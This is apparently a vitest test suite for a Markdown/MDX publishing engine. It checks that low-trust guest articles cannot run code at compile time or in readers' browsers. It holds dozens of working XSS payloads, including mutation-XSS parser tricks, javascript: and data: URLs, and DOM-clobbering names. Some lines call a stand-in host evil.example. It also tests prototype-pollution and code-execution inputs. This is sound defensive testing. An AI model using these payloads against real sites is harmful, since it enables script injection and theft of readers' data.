import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import type { Element, Root } from 'hast'
import rehypeRaw from 'rehype-raw'
import { VFile } from 'vfile'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { type PrintedBody, readBody } from '../../markdown/print/body'
import { fillFormulas } from '../../markdown/print/formula-table'
import type { Problem } from '../../markdown/problems/problem'
import { isGlobalName } from '../../markdown/text/global-name'
import { forbiddenScheme } from '../../markdown/text/link-scheme'
import { visit } from '../../markdown/tree/visit'
import { testSite } from '../../site/test-site'
import { bodyStore } from '../../store/store'
import { createDocumentCompiler, type DocumentCompiler } from '../compile/compile-document'
import { settingsKey } from '../compile/source-key'
import { documentTypes } from '../front-matter/document-types'
import { readDocument } from '../read/read-document'

// `trust: 'low'`: whatever a guest writes, nothing of it runs, neither at compile time nor in the browser of a reader.

const project = process.cwd()
const root = mkdtempSync(join(tmpdir(), 'lemma-guests-'))
const components = [{ name: 'LogisticMap', version: '' }]
let guests: DocumentCompiler
let trusted: DocumentCompiler

const bibliography = `@book{hostile,
  title = {<script>pwned()</script><img src=x onerror=pwned()> & "quotes"},
  author = {Doe, <b onclick=pwned()>J</b>},
  publisher = {<svg onload=pwned()>},
  year = 2000,
  doi = {10.1000/x"onmouseover="pwned()},
  url = {https://example.org/"onmouseover="pwned()//<img src=x onerror=pwned()>}
}
`

beforeAll(() => {
  vi.stubEnv('LEMMA_ENGINE', project)
  process.chdir(root)
  write('content/references.bib', bibliography)
  guests = createDocumentCompiler({ ...testSite, trust: 'low' }, { components })
  trusted = createDocumentCompiler(testSite, { components })
})
afterAll(() => {
  process.chdir(project)
  rmSync(root, { recursive: true, force: true })
})

function write(file: string, text: string): void {
  mkdirSync(dirname(file), { recursive: true })
  writeFileSync(file, text)
}

const frontMatter = '---\ntitle: x\ndate: 2020-01-01\n---\n'
let number = 0

interface Article {
  problems: Problem[]
  /** Every form that contains HTML, with its formulas. */
  html: string[]
  page: string
}

/** Read an article, with its front matter, as the publisher does. */
async function read(
  content: string,
  extension = 'md',
  { compiler = guests, name = `case-${++number}` } = {},
): Promise<Article> {
  const file = `content/posts/${name}.${extension}`
  write(file, content)
  const { document, partial, problems } = await readDocument(file, documentTypes, compiler)
  const article = document ?? partial
  if (!article || !('compiled' in article)) return { problems, html: [], page: '' }
  const { compiled } = article
  const html = printedForms(readBody(bodyStore, compiled.key))
  html.push(...Object.values(compiled.fields).map((field) => field.html))
  return { problems: [...problems, ...compiled.problems], html, page: html[0] ?? '' }
}

function printedForms(body: PrintedBody): string[] {
  const { page, teaser, feed, previews, formulas } = body
  const forms = [page.html.join(''), page.contents, teaser.html.join(''), ...Object.values(previews)]
  // Components would be nodes for React beside the HTML.
  expect([...page.nodes, ...teaser.nodes].filter((node) => typeof node !== 'number')).toEqual([])
  return [...forms.map((form) => fillFormulas(form, formulas)), feed]
}

const readText = (text: string, extension?: string) => read(frontMatter + text, extension)

/** What a browser makes of HTML: its elements, with the names of attributes as hast has them. */
function elementsOf(html: string): Element[] {
  const tree: Root = { type: 'root', children: [{ type: 'raw', value: html } as never] }
  const elements: Element[] = []
  visit(rehypeRaw()(tree, new VFile()) as Root, 'element', (element) => {
    elements.push(element)
  })
  return elements
}

const active =
  /^(?:script|style|link|base|meta|object|embed|applet|iframe|form|button|textarea|select|template|noscript|foreignobject|animate|set|portal|frame|frameset|title|xmp)$/i

/** Every way in which HTML runs code, sends requests that the page did not intend, or replaces values of scripts. */
function findActive(html: string): string[] {
  return elementsOf(html).flatMap(({ tagName, properties }) => {
    const found = Object.entries(properties).flatMap(([name, value]) => {
      const text = String(value)
      const isBad =
        /^on/i.test(name) ||
        /^(?:name|srcDoc|srcSet|action|formAction|target|ping|background|dataComponent)$/i.test(name) ||
        (name === 'style' && /url|expression|pwned|position:\s*fixed/i.test(text)) ||
        (/^(?:href|xLinkHref|src|data|cite|poster)$/.test(name) && forbiddenScheme(text) !== undefined) ||
        // The heading of the list of works is ours.
        (name === 'id' && text !== 'references' && isGlobalName(text)) ||
        (!/^(?:title|alt|ariaLabel|href)$/.test(name) && text.includes('pwned'))
      return isBad ? [`${tagName} ${name}="${text}"`] : []
    })
    return active.test(tagName) ? [tagName, ...found] : found
  })
}

function expectHarmless({ problems, html }: Article, hasProblem = true): void {
  if (hasProblem) expect(problems).not.toEqual([])
  for (const { line, column, message, hint } of problems) {
    expect(line).toBeGreaterThanOrEqual(1)
    expect(column).toBeGreaterThanOrEqual(1)
    expect(message).not.toBe('')
    expect(hint ?? 'none').not.toBe('')
  }
  expect(html.flatMap(findActive)).toEqual([])
}

test('what the check of these tests finds', () => {
  const html =
    '<p onclick="x"><a href="javascript:x" name="y"></a><svg><foreignObject><p id="location"></p></foreignObject></svg></p>'
  expect(findActive(html)).toEqual([
    'p onClick="x"',
    'a href="javascript:x"',
    'a name="y"',
    'foreignObject',
    'p id="location"',
  ])
})

const hostileHtml = [
  '<script>pwned()</script>',
  '<script src="https://evil.example/pwned.js"></script>',
  '<img src=x onerror=pwned()>',
  '<p onclick="pwned()" ONMOUSEOVER=\'pwned()\'>a</p>',
  '<details open ontoggle=pwned()><summary>a</summary></details>',
  '<video autoplay onloadstart=pwned()><source onerror=pwned()></video>',
  '<a href="javascript:pwned()">a</a>',
  '<a href="java&#10;script:pwned()">a</a>',
  '<a href="&#1;JaVaScRiPt&colon;pwned()">a</a>',
  '<a href="data:text/html,<script>pwned()</script>">a</a>',
  '<a href="vbscript:pwned()">a</a>',
  '<area href="javascript:pwned()"><map name="pwned"></map>',
  '<svg onload=pwned()><a xlink:href="javascript:pwned()"><text>a</text></a></svg>',
  '<svg><script>pwned()</script></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>pwned()</script>"></iframe></foreignObject></svg>',
  '<svg><animate attributeName="href" values="javascript:pwned()" /><set attributeName="onload" to="pwned()" /></svg>',
  '<svg><use href="data:image/svg+xml,pwned"/></svg>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=pwned()></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
  '<p title="</p><img src=x onerror=pwned()>">a</p><form onsubmit=pwned()><p>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<template><script>pwned()</script><img src=x onerror=pwned()></template>',
  '<style>@import "https://evil.example/pwned"; p { background: url(javascript:pwned()) }</style>',
  '<p style="background:url(https://evil.example/pwned);position:fixed">a</p>',
  '<link rel="stylesheet" href="https://evil.example/pwned.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/pwned">',
  '<base href="https://evil.example/pwned/">',
  '<iframe srcdoc="<script>pwned()</script>"></iframe>',
  '<iframe src="javascript:pwned()"></iframe>',
  '<iframe src="https://player.example.org/a" srcdoc="<script>pwned()</script>" onload="pwned()"></iframe>',
  '<iframe src="https://evil.example/pwned"></iframe>',
  '<object data="data:text/html,<script>pwned()</script>"><embed src="javascript:pwned()"></object>',
  '<form action="https://evil.example/pwned"><input name="pwned"><button formaction="javascript:pwned()">a</button></form>',
  '<input type="image" src=x onerror=pwned()>',
  '<textarea autofocus onfocus=pwned()></textarea><select onfocus=pwned() autofocus></select>',
  '<xmp><img src=x onerror=pwned()></xmp><plaintext><img src=x onerror=pwned()>',
  '<img src="https://evil.example/pwned.png" srcset="https://evil.example/pwned.png 2x">',
  '<p id="location">a</p>',
  '<a name="getElementById">a</a>',
  '<img name="cookie" src="x"><form id="plausible"></form>',
  '<p class="masthead pwned" data-component="pwned" data-citation=\'[{"key":"pwned\'>a</p>',
  '<a href="https://example.org" target="pwned" ping="https://evil.example/pwned">a</a>',
  '<marquee onstart=pwned()>a</marquee><dialog open>a</dialog><portal src="https://evil.example/pwned"></portal>',
  '<![CDATA[<script>pwned()</script>]]><?php pwned() ?><p onclick=pwned()>',
]

describe('HTML in .md', () => {
  test.each(hostileHtml)('%s', async (html) => {
    expectHarmless(await readText(html))
    expectHarmless(await readText(`a ${html.replaceAll('\n', ' ')} b`))
    expectHarmless(await readText(`:::theorem{title='${html.replaceAll("'", '"')}'}\n${html}\n:::\n`))
  })
})

describe('elements in .mdx', () => {
  test.each([
    '<p onClick="pwned()">a</p>',
    '<p ONCLICK="pwned()">a</p>',
    '<p dangerouslySetInnerHTML={{"__html": "<img src=x onerror=pwned()>"}}>a</p>',
    '<iframe srcDoc="<script>pwned()</script>" />',
    '<iframe srcdoc="<script>pwned()</script>" src="https://player.example.org/a" />',
    '<a href="javascript:pwned()">a</a>',
    '<a HREF="javascript:pwned()">a</a>',
    '<a href={"javascript:pwned()"}>a</a>',
    '<svg><a xlinkHref="javascript:pwned()">a</a></svg>',
    '<svg><a xlink:href="javascript:pwned()">a</a></svg>',
    '<script>pwned()</script>',
    '<sCript>pwned()</sCript>',
    '<style>a</style>',
    '<div style="position:fixed">a</div>',
    '<div style={{"position": "fixed"}}>a</div>',
    '<svg:script>pwned()</svg:script>',
    '<a.b onclick="pwned()">a</a.b>',
    '<form id="location"><input name="pwned" /></form>',
    '<LogisticMap r={3.2} onClick="pwned()">a</LogisticMap>',
    '<div data-component="LogisticMap"><LogisticMap /></div>',
    'a <LogisticMap /> b',
    '<></>\n\n<p onclick="pwned()">a</p>',
  ])('%s', async (text) => {
    expectHarmless(await readText(text, 'mdx'))
  })
})

describe('Markdown and our syntax', () => {
  test.each([
    '[a](javascript:pwned())',
    '<javascript:pwned()>',
    '[a]: data:text/html,pwned\n\n[a]',
    '![a](javascript:pwned())',
    '![a](https://evil.example/pwned.png)',
    ':::theorem{#location}\na\n:::',
    '![a](x.png "<img src=x onerror=pwned()>")',
  ])('%s', async (text) => {
    expectHarmless(await readText(text))
  })

  test('attributes of statements that have no meaning are left out', async () => {
    const article = await readText(
      ':::theorem{#thm-a onclick="pwned()" .pwned style="position:fixed" title="a <u onclick=pwned()>b</u>"}\na\n:::',
    )
    expectHarmless(article)
    expect(article.page).toContain('id="thm-a"')
    expect(article.page).toContain('<u>b</u>')
  })

  test.each(['location', '__next_f', 'top', 'getElementById'])(
    'a heading does not become the global variable %s, and keeps its text',
    async (name) => {
      const article = await readText(`# ${name}\n\n[a](#section-${name.toLowerCase()})\n`)
      expectHarmless(article, false)
      expect(article.problems).toEqual([])
      expect(article.page).toContain(`id="section-${name.toLowerCase()}"`)
    },
  )

  test('citations of hostile works are text', async () => {
    const article = await readText('a [@hostile, <img src=x onerror=pwned()>] b')
    expectHarmless(article, false)
    expect(article.page).toContain('class="works"')
  })
})

describe('formulas', () => {
  test.each([
    '\\href{javascript:pwned()}{x}',
    '\\url{data:text/html,pwned}',
    '\\includegraphics{https://evil.example/pwned.png}',
    '\\htmlId{location}{x}',
    '\\htmlClass{pwned}{x}',
    '\\htmlClass{intertext pwned}{x}',
    '\\htmlStyle{position:fixed;background:url(pwned)}{x}',
    '\\htmlData{component=pwned}{x}',
    '\\newcommand{\\x}{\\htmlStyle}\\x{position:fixed}{x}',
    '\\text{$\\htmlId{location}{x}$}',
    '\\color{red;position:fixed}x',
  ])('%s', async (tex) => {
    expectHarmless(await readText(`a $${tex}$ b`))
    expectHarmless(await readText(`$$\n${tex}\n$$\n`))
    expectHarmless(
      await read(`---\ntitle: a $${tex}$ b\ndate: 2020-01-01\nformula: ${JSON.stringify(tex)}\n---\n`),
    )
  })

  test('macros of the front matter can do no more', async () => {
    const macros = { '\\x': '\\htmlStyle{position:fixed}{pwned}', '\\y': '\\href{javascript:pwned()}{y}' }
    expectHarmless(
      await read(`---\ntitle: x\ndate: 2020-01-01\nmacros: ${JSON.stringify(macros)}\n---\n$\\x$ $\\y$`),
    )
  })

  test('links, and the classes of our own macros, are allowed', async () => {
    const { problems, page } = await readText(
      '$$\n\\begin{align}a&=b\\\\ \\intertext{so} c&=\\cfrac[l]{1}{2}\\end{align}\n$$\n\n$\\mathbb{Z_2}$ $\\href{https://example.org}{x}$',
    )
    expect(problems).toEqual([])
    expect(page).toContain('href="https://example.org"')
    for (const name of ['intertext', 'numerator-left', 'double-struck']) expect(page).toContain(name)
  })
})

describe('no code of an article runs when it is compiled', () => {
  const run = 'globalThis.pwned = true'
  test.each([
    ['mdx', `{${run}}`],
    ['mdx', `a {(() => { ${run} })()} b`],
    ['mdx', `export const x = (${run})`],
    ['mdx', `import x from 'data:text/javascript,${run}'`],
    ['mdx', `export { default } from './pwned.mjs'`],
    ['mdx', `<p title={${run}}>a</p>`],
    ['mdx', `<p {...(${run})}>a</p>`],
    ['mdx', `<LogisticMap r={(${run})} />`],
    ['mdx', `<LogisticMap r={{"toString": "${run}"}} />`],
    ['md', `{${run}}\n\n<script>${run}</script>`],
    ['md', `\`\`\`js {${run}}\n${run}\n\`\`\`\n\n<script>${run}</script>`],
  ])('in .%s: %s', async (extension, text) => {
    expectHarmless(await readText(text, extension))
    expect(globalThis).not.toHaveProperty('pwned')
  })

  test.each([
    `---js\n${run}\n---\na`,
    `---json\n{}\n---\na`,
    `---\ntitle: !!js/function 'function () { ${run} }'\ndate: 2020-01-01\n---\n`,
    `---\ntitle: !!js/undefined x\ndate: 2020-01-01\n---\n`,
    `---\ntitle: x\ndate: 2020-01-01\nmacros: { __proto__: { pwned: "true" } }\n---\n`,
    `---\ntitle: x\ndate: 2020-01-01\n__proto__: { pwned: true }\nconstructor: { prototype: { pwned: true } }\n---\n`,
  ])('in front matter: %j', async (content) => {
    expectHarmless(await read(content), false)
    expect(globalThis).not.toHaveProperty('pwned')
    expect({}).not.toHaveProperty('pwned')
  })
})

test('each fault is one problem, at the start of its element', async () => {
  const { problems } = await readText(
    'a\n\nb <u>c</u> <font color="red">d</font>\n\n<p style="color:red" id="top">e</p>\n',
  )
  expect(problems.map(({ line, column, rule, message }) => [line, column, rule, message])).toEqual([
    [7, 12, 'trust', "Found <font>, which an article of a guest cannot contain (trust: 'low')."],
    [
      9,
      1,
      'trust',
      'Found style="color:red" at <p>, which an article of a guest cannot contain (trust: \'low\').',
    ],
    [9, 1, 'trust', expect.stringContaining('Found the id "top", which scripts could take for')],
  ])
})

test('the text of elements that are removed remains', async () => {
  const { page } = await readText('<font color="red">a <b>b</b></font>\n')
  expect(page).toContain('a <b>b</b>')
  const { page: mdx } = await readText('<LogisticMap>\n\na **b**\n\n</LogisticMap>\n', 'mdx')
  expect(mdx).toContain('a <strong>b</strong>')
})

test('what is not in the list of allowed HTML is what sets the two levels apart', async () => {
  // Every case of the syntax: what compiles without a problem of trust is the same for guests.
  const folders = readdirSync(join(project, 'lib/markdown/fixtures'), { recursive: true, encoding: 'utf8' })
  const inputs = folders.filter((name) => /input\.mdx?$/.test(name))
  expect(inputs.length).toBeGreaterThan(50)
  let same = 0
  for (const name of inputs) {
    const text = readFileSync(join(project, 'lib/markdown/fixtures', name), 'utf8')
    const extension = name.endsWith('x') ? 'mdx' : 'md'
    const guest = await read(text, extension, { name: 'fixture' })
    if (guest.problems.some(({ rule }) => rule === 'trust')) continue
    const { page } = await read(text, extension, { compiler: trusted, name: 'fixture' })
    expect(sortable(guest.page), name).toBe(sortable(page))
    same++
  }
  expect(same).toBeGreaterThan(40)
})

/** A page without the names of headings, which differ, and without comments. */
function sortable(page: string): string {
  return page.replace(/section-(?=[\w$]+")/g, '').replace(/<!--[\s\S]*?-->/g, '')
}

test('articles are compiled again when the setting changes', () => {
  expect(settingsKey({ ...testSite, trust: 'low' })).not.toBe(settingsKey(testSite))
})
